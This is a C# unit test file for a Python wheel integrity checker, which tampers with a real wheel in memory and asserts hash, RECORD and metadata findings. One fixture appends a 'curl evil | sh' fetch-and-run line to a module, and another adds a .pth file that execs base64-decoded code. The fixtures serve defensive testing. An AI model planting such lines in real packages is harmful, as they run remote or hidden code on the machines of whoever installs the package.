using System.Text;
using TrustCheck.Artifacts.Archives;
using TrustCheck.Artifacts.Findings;
using TrustCheck.Artifacts.Wheels;
using TrustCheck.TestKit;
using TrustCheck.TestKit.Artifacts;

namespace TrustCheck.Artifacts.Tests.Wheels;

/// <summary>RECORD, WHEEL and .dist-info checks: the real wheels are intact; tampered copies made at test time are not.</summary>
public sealed class WheelIntegrityTests
{
    private const string Wheel = "wheel-0.43.0-py3-none-any.whl";

    public static TheoryData<string> RealWheels => [.. Directory.GetFiles(SharedData.PathOf("data/wheels"), "*.whl").Select(Path.GetFileName).OfType<string>().Order(StringComparer.Ordinal)];

    private static byte[] Real => File.ReadAllBytes(SharedData.PathOf("data/wheels/" + Wheel));

    [Theory]
    [MemberData(nameof(RealWheels))]
    public void Check_RealWheel_IsIntact(string wheel)
    {
        Assert.Empty(Check(wheel, File.ReadAllBytes(SharedData.PathOf("data/wheels/" + wheel))));
    }

    [Fact]
    public void Check_MemberRewrittenAfterTheBuild_IsAHashMismatch()
    {
        var tampered = WheelTampering.Rewrite(Real, (path, bytes) => path == "wheel/cli/__init__.py" ? [.. bytes, .. "\nimport os; os.system('curl evil | sh')\n"u8] : bytes);

        var finding = Assert.Single(Check(Wheel, tampered));

        Assert.Equal((WheelCodes.HashMismatch, ArtifactSeverity.High, "wheel/cli/__init__.py"), (finding.Code, finding.Severity, finding.Evidence["member"]));
    }

    [Fact]
    public void Check_PthFileAddedWithoutRecord_IsUnrecorded()
    {
        var tampered = WheelTampering.Rewrite(Real, (_, bytes) => bytes, ("wheel-init.pth", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"u8.ToArray()));

        var finding = Assert.Single(Check(Wheel, tampered));

        Assert.Equal((WheelCodes.Unrecorded, "wheel-init.pth"), (finding.Code, finding.Evidence["member"]));
    }

    [Fact]
    public void Check_MemberDropped_IsAMissingFile()
    {
        var tampered = WheelTampering.Rewrite(Real, (path, bytes) => path == "wheel/__main__.py" ? null : bytes);

        Assert.Equal([WheelCodes.MissingFile], Check(Wheel, tampered).Select(f => f.Code));
    }

    [Fact]
    public void Check_RecordWithAWeakHash_IsAFinding()
    {
        var tampered = WheelTampering.Rewrite(Real, (path, bytes) => path.EndsWith(".dist-info/RECORD", StringComparison.Ordinal)
            ? Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(bytes).Replace("wheel/__main__.py,sha256=", "wheel/__main__.py,md5=", StringComparison.Ordinal))
            : bytes);

        var finding = Assert.Single(Check(Wheel, tampered));

        Assert.Equal((WheelCodes.WeakOrMissingHash, "wheel/__main__.py"), (finding.Code, finding.Evidence["member"]));
    }

    [Fact]
    public void Check_NoRecord_IsAFinding()
    {
        var tampered = WheelTampering.Rewrite(Real, (path, bytes) => path.EndsWith(".dist-info/RECORD", StringComparison.Ordinal) ? null : bytes);

        Assert.Equal([WheelCodes.NoRecord], Check(Wheel, tampered).Select(f => f.Code));
    }

    [Fact]
    public void Check_WheelFileNamedForAnotherVersion_IsADistInfoMismatch()
    {
        Assert.Contains(Check("wheel-0.44.0-py3-none-any.whl", Real), f => f.Code == WheelCodes.DistInfoMismatch);
    }

    [Fact]
    public void Check_WheelMetadataMissing_IsAFinding()
    {
        var tampered = WheelTampering.Rewrite(Real, (path, bytes) => path.EndsWith(".dist-info/WHEEL", StringComparison.Ordinal) ? null : bytes);

        Assert.Equal([WheelCodes.WheelMetadata, WheelCodes.MissingFile], Check(Wheel, tampered).Select(f => f.Code));
    }

    private static IReadOnlyList<ArtifactFinding> Check(string filename, byte[] wheel)
    {
        var contents = SafeArchiveReader.Read(new MemoryStream(wheel), ArchiveFormat.Zip);
        Assert.Empty(contents.Findings);
        return WheelIntegrity.Check(filename, contents);
    }
}
